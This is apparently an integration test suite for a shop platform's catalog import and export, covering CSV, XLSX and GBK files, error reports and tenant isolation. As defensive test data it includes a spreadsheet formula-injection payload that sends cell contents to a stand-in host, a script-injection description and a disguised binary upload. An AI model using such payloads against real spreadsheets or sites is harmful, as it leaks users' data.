import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { startTestPlatform, type TestPlatform } from '../../platform/test/helpers/test-platform';
import { bearer, createShop, merchantLogin, type TestShop } from '../../platform/test/helpers/fixtures';
import { startWorkers, type RunningWorkers } from '../src/worker';

let t: TestPlatform;
let workers: RunningWorkers;
let shop: TestShop;
let token: string;
beforeAll(async () => {
  t = await startTestPlatform({ REDIS_PREFIX: `sft_${process.env.SF_TEST_RUN ?? 'local'}_i${Date.now()}` });
  workers = startWorkers(t.platform);
  shop = await createShop(t);
  token = (await merchantLogin(t, shop.owner)).accessToken;
});
afterAll(async () => {
  await workers.close();
  await t.close();
});

const HEADER =
  'spu_code,title,subtitle,brand,category_path,tags,description,image_urls,attributes,status,sku_code,spec_values,price_fen,original_price_fen,stock';

async function importFile(bytes: Buffer, name: string) {
  const started = await t.api.post('/merchant-api/v1/catalog/imports').set(bearer(token)).attach('file', bytes, name);
  if (started.status !== 201) return started;
  for (let i = 0; i < 200; i++) {
    const job = await t.api.get(`/merchant-api/v1/catalog/imports/${started.body.id}`).set(bearer(token)).expect(200);
    if (job.body.status === 'done' || job.body.status === 'failed') return job;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('import did not finish');
}

function download(path: string, auth = token) {
  return t.api
    .get(path)
    .set(bearer(auth))
    .buffer(true)
    .parse((res, cb) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => cb(null, Buffer.concat(chunks)));
    });
}

async function sheetRows(bytes: Buffer): Promise<unknown[][]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(new Uint8Array(bytes).buffer);
  const rows: unknown[][] = [];
  book.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('product import', () => {
  it('imports good rows from a CSV and reports each bad row with its reason, writing nothing of a bad product', async () => {
    const csv = [
      HEADER,
      'TEE-1,纯棉T恤,夏季新款,Cotton Co,服饰/上衣/T恤,夏季|纯棉,<p>舒适</p><script>x()</script>,https://img.example.invalid/tee.jpg,colour:white,on_sale,TEE-1-S,尺码:S,4900,9900,10',
      'TEE-1,纯棉T恤,,,服饰/上衣/T恤,,,,,on_sale,TEE-1-M,尺码:M,4900,,20',
      'MUG-1,陶瓷马克杯,,,家居/餐具,,,,,on_sale,,,1990,,5',
      'BAD-PRICE,坏价格,,,家居/餐具,,,,,on_sale,,,19.9,,5',
      'BAD-MATRIX,规格缺一,,,家居/餐具,,,,,on_sale,,颜色:红|尺码:S,100,,1',
      'BAD-MATRIX,规格缺一,,,家居/餐具,,,,,on_sale,,颜色:蓝|尺码:M,100,,1',
      'BAD-DEPTH,太深,,,一/二/三/四,,,,,on_sale,,,100,,1',
      ',没有编码,,,家居,,,,,on_sale,,,100,,1',
    ].join('\n');
    const job = (await importFile(Buffer.from(csv), 'products.csv')).body;
    expect(job).toMatchObject({
      status: 'done',
      format: 'csv',
      totalRows: 8,
      processedRows: 8,
      createdProducts: 2,
      rejectedRows: 5,
    });
    const byRow = Object.fromEntries(job.errors.map((e: { row: number; message: string }) => [e.row, e.message]));
    expect(byRow[5]).toMatch(/price_fen: "19.9" is not a whole number of fen/);
    expect(job.errors.find((e: { row: number }) => e.row === 5)).toMatchObject({
      code: 'NOT_FEN',
      params: { column: 'price_fen', value: '19.9' },
    });
    expect(job.errors.find((e: { row: number }) => e.row === 7)).toMatchObject({
      code: 'REJECTED_WITH_ROW',
      params: { row: 6 },
    });
    expect(byRow[6]).toMatch(/combinations/);
    expect(byRow[7]).toMatch(/rejected with row 6/);
    expect(byRow[8]).toMatch(/category_path/);
    expect(byRow[9]).toMatch(/spu_code is required/);
    const products = (await t.api.get('/merchant-api/v1/catalog/products?pageSize=100').set(bearer(token)).expect(200))
      .body.items;
    expect(products.map((p: { title: string }) => p.title).sort()).toEqual(['纯棉T恤', '陶瓷马克杯']);
    const tee = products.find((p: { title: string }) => p.title === '纯棉T恤');
    const detail = (await t.api.get(`/merchant-api/v1/catalog/products/${tee.id}`).set(bearer(token)).expect(200)).body;
    expect(detail).toMatchObject({ specs: [{ name: '尺码', values: ['S', 'M'] }], totalStock: 30, minPriceFen: 4900 });
    expect(detail.descriptionHtml).toBe('<p>舒适</p>');
    expect(detail.images[0].medium.jpeg).toBe('https://img.example.invalid/tee.jpg');
    const tree = (await t.api.get('/merchant-api/v1/catalog/categories').set(bearer(token)).expect(200)).body;
    expect(tree.map((n: { name: string }) => n.name).sort()).toEqual(['家居', '服饰']);
    // The shop finds the imported products.
    const found = (await t.api.get(`/shop-api/v1/shops/${shop.slug}/search?q=${encodeURIComponent('T恤')}`).expect(200))
      .body.items;
    expect(found.map((p: { id: number }) => p.id)).toEqual([tee.id]);
  });

  it('imports an XLSX, updating products by spu_code', async () => {
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet('p');
    sheet.addRow(HEADER.split(','));
    sheet.addRow(['MUG-1', '陶瓷马克杯（新版）', '', '', '家居/餐具', '', '', '', '', 'on_sale', '', '', 2490, '', 8]);
    sheet.addRow([
      'LAMP-1',
      'Modern Desk Lamp',
      '',
      '',
      '家居/灯具',
      '',
      '',
      '',
      'colour:black',
      'on_sale',
      '',
      '',
      12900,
      '',
      3,
    ]);
    sheet.addRow(['LAMP-2', '', '', '', '家居/灯具', '', '', '', '', 'on_sale', '', '', 100, '', 1]);
    const job = (await importFile(Buffer.from(await wb.xlsx.writeBuffer()), 'products.xlsx')).body;
    expect(job).toMatchObject({
      status: 'done',
      format: 'xlsx',
      createdProducts: 1,
      updatedProducts: 1,
      rejectedRows: 1,
    });
    expect(job.errors[0]).toMatchObject({ row: 4, spuCode: 'LAMP-2' });
    const mug = (await t.api.get('/merchant-api/v1/catalog/products?q=MUG-1').set(bearer(token)).expect(200)).body
      .items[0];
    expect(mug).toMatchObject({ title: '陶瓷马克杯（新版）', minPriceFen: 2490, totalStock: 8 });
  });

  it('refuses a binary posing as CSV, wrong columns and an empty file at upload', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0]), Buffer.alloc(100)]);
    const r1 = await importFile(elf, 'products.csv');
    expect(r1.status).toBe(400);
    const r2 = await importFile(Buffer.from('name,price\nx,1\n'), 'products.csv');
    expect(r2.status).toBe(400);
    expect(r2.body.error.details).toMatchObject({
      unknown: ['name', 'price'],
      missing: expect.arrayContaining(['spu_code', 'title']),
    });
    expect((await importFile(Buffer.alloc(0), 'x.csv')).status).toBe(400);
    const fakeZip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(50, 7)]);
    expect((await importFile(fakeZip, 'x.xlsx')).status).toBe(400);
  });

  it('exports the catalog in the import format, which imports back unchanged', async () => {
    const csv = await t.api
      .get('/merchant-api/v1/catalog/export?format=csv')
      .set(bearer(token))
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const text = (csv.body as Buffer).toString('utf8');
    expect(text).toContain('spu_code,title');
    expect(text).toContain('TEE-1');
    const again = (await importFile(csv.body as Buffer, 'export.csv')).body;
    expect(again).toMatchObject({ status: 'done', createdProducts: 0, rejectedRows: 0 });
    expect(again.updatedProducts).toBeGreaterThanOrEqual(3);
    const xlsx = await t.api.get('/merchant-api/v1/catalog/export?format=xlsx').set(bearer(token)).expect(200);
    expect(xlsx.headers['content-type']).toContain('spreadsheetml');
  });

  it('reads a GBK CSV as Excel on Chinese Windows saves it: Chinese headers, prices in yuan, Chinese statuses; each row error has a code', async () => {
    const csv = [
      '商品编码,商品名称,分类,状态,规格,价格（元）,原价(元),库存',
      'GBK-1,羊毛围巾,服饰/配件,在售,颜色:灰,129.90,199,5',
      'GBK-1,羊毛围巾,服饰/配件,在售,颜色:黑,"1,299.00",,3',
      'GBK-2,草稿商品,服饰/配件,草稿,,9.9,,1',
      'GBK-3,下架商品,服饰/配件,下架,,￥0.5,,1',
      'GBK-BAD,价格坏,服饰/配件,在售,,12.345,,1',
      'GBK-ST,状态坏,服饰/配件,热卖,,1,,1',
    ].join('\r\n');
    const job = (await importFile(iconv.encode(csv, 'gbk'), '商品.csv')).body;
    expect(job).toMatchObject({ status: 'done', format: 'csv', totalRows: 6, createdProducts: 3, rejectedRows: 2 });
    expect(job.errors).toEqual([
      {
        row: 6,
        spuCode: 'GBK-BAD',
        code: 'NOT_YUAN',
        params: { column: 'price_yuan', value: '12.345' },
        message: 'price_yuan: "12.345" is not an amount in yuan (at most 2 decimals)',
      },
      {
        row: 7,
        spuCode: 'GBK-ST',
        code: 'STATUS_INVALID',
        params: { value: '热卖' },
        message: 'status: "热卖" is not draft, on_sale or off_sale',
      },
    ]);
    const bySpu = async (spu: string) => {
      const id = (await t.api.get(`/merchant-api/v1/catalog/products?q=${spu}`).set(bearer(token)).expect(200)).body
        .items[0].id;
      return (await t.api.get(`/merchant-api/v1/catalog/products/${id}`).set(bearer(token)).expect(200)).body;
    };
    const scarf = await bySpu('GBK-1');
    expect(scarf).toMatchObject({ title: '羊毛围巾', status: 'on_sale' });
    expect(
      scarf.skus.map((k: { priceFen: number; originalPriceFen: number | null }) => [k.priceFen, k.originalPriceFen]),
    ).toEqual([
      [12990, 19900],
      [129900, null],
    ]);
    expect(await bySpu('GBK-2')).toMatchObject({ status: 'draft', minPriceFen: 990 });
    expect(await bySpu('GBK-3')).toMatchObject({ status: 'off_sale', minPriceFen: 50 });

    // The rejected rows as a file: as uploaded, after the row number and the reason in Chinese.
    const report = await download(`/merchant-api/v1/catalog/imports/${job.id}/report?format=xlsx`).expect(200);
    expect(report.headers['content-disposition']).toContain(`import-${job.id}-errors.xlsx`);
    const rows = await sheetRows(report.body as Buffer);
    expect(rows[0]!.slice(0, 3)).toEqual(['原行号', '错误原因', '商品编码']);
    expect(rows.slice(1).map((r) => r.slice(0, 3))).toEqual([
      [6, '价格(元)“12.345”不是有效金额（单位：元，最多两位小数）', 'GBK-BAD'],
      [7, '状态“热卖”无效，应为 在售、下架 或 草稿', 'GBK-ST'],
    ]);
    expect(rows[1]![rows[0]!.indexOf('价格(元)')]).toBe('12.345');
    const english = await download(`/merchant-api/v1/catalog/imports/${job.id}/report?format=csv&language=en`).expect(
      200,
    );
    const [header, first] = parse(english.body as Buffer, { bom: true }) as string[][];
    expect(header!.slice(0, 3)).toEqual(['source_row', 'error', 'spu_code']);
    expect(first!.slice(0, 3)).toEqual([
      '6',
      'price_yuan: "12.345" is not an amount in yuan (at most 2 decimals)',
      'GBK-BAD',
    ]);
    // The report imports again as it is (its own two columns are ignored): the same two rows are refused.
    const again = (await importFile(report.body as Buffer, 'errors.xlsx')).body;
    expect(again).toMatchObject({ status: 'done', totalRows: 2, rejectedRows: 2 });
    expect(again.errors.map((e: { code: string }) => e.code)).toEqual(['NOT_YUAN', 'STATUS_INVALID']);

    // Another shop cannot fetch this shop's report.
    const other = await createShop(t);
    const otherToken = (await merchantLogin(t, other.owner)).accessToken;
    const refused = await t.api
      .get(`/merchant-api/v1/catalog/imports/${job.id}/report`)
      .set(bearer(otherToken))
      .expect(404);
    expect(refused.body.error.code).toBe('NOT_FOUND');
  });

  it('downloads the template: Chinese headers and yuan for zh-CN, the English keys for en; the template imports as it is', async () => {
    const zh = await download('/merchant-api/v1/catalog/import-template?format=xlsx&language=zh-CN').expect(200);
    expect(zh.headers['content-type']).toContain('spreadsheetml');
    const rows = await sheetRows(zh.body as Buffer);
    expect(rows[0]).toEqual([
      '商品编码',
      '商品名称',
      '副标题',
      '品牌',
      '分类',
      '标签',
      '商品详情',
      '图片链接',
      '属性',
      '状态',
      'SKU编码',
      '规格',
      '价格(元)',
      '原价(元)',
      '库存',
    ]);
    expect(rows[1]!.slice(9, 13)).toEqual(['在售', 'TS-001-RED-M', '颜色:红色|尺码:M', '59.00']);
    const en = await download('/merchant-api/v1/catalog/import-template?format=csv&language=en').expect(200);
    expect(
      (en.body as Buffer)
        .toString('utf8')
        .replace(/^\ufeff/, '')
        .split(/\r?\n/)[0],
    ).toBe(HEADER);
    const job = (await importFile(zh.body as Buffer, 'template.xlsx')).body;
    expect(job).toMatchObject({ status: 'done', rejectedRows: 0 });
    const tee = (await t.api.get('/merchant-api/v1/catalog/products?q=TS-001').set(bearer(token)).expect(200)).body
      .items[0];
    expect(tee).toMatchObject({ title: '纯棉圆领T恤', minPriceFen: 5900 });
    expect((await importFile(en.body as Buffer, 'template.csv')).body).toMatchObject({
      status: 'done',
      rejectedRows: 0,
      updatedProducts: 1,
    });
  });

  it('exports titles and tags that look like formulas as quoted text, and imports them back as they were', async () => {
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const csv = `${HEADER}\nFX-1,"${title.replace(/"/g, '""')}",,,家居/餐具,@home|-1+2,,,,on_sale,,,100,,1\n`;
    expect((await importFile(Buffer.from(csv), 'fx.csv')).body).toMatchObject({ status: 'done', createdProducts: 1 });
    const exported = await download('/merchant-api/v1/catalog/export?format=csv').expect(200);
    const [header, ...rows] = parse(exported.body as Buffer, { bom: true }) as string[][];
    const fx = rows.find((r) => r[0] === 'FX-1')!;
    expect(fx[header!.indexOf('title')]).toBe(`'${title}`);
    expect(fx[header!.indexOf('tags')]).toBe("'@home|-1+2");
    expect(fx[header!.indexOf('price_fen')]).toBe('100');
    expect((await importFile(exported.body as Buffer, 'export.csv')).body).toMatchObject({
      status: 'done',
      rejectedRows: 0,
    });
    const product = (await t.api.get('/merchant-api/v1/catalog/products?q=FX-1').set(bearer(token)).expect(200)).body
      .items[0];
    const detail = (await t.api.get(`/merchant-api/v1/catalog/products/${product.id}`).set(bearer(token)).expect(200))
      .body;
    expect(detail).toMatchObject({ title, tags: ['@home', '-1+2'] });
  });

  it("another tenant cannot read this tenant's imports", async () => {
    const other = await createShop(t);
    const otherToken = (await merchantLogin(t, other.owner)).accessToken;
    const mine = (await t.api.get('/merchant-api/v1/catalog/imports').set(bearer(token)).expect(200)).body;
    expect(mine.length).toBeGreaterThan(0);
    await t.api.get(`/merchant-api/v1/catalog/imports/${mine[0].id}`).set(bearer(otherToken)).expect(404);
    expect((await t.api.get('/merchant-api/v1/catalog/imports').set(bearer(otherToken)).expect(200)).body).toEqual([]);
  });
});
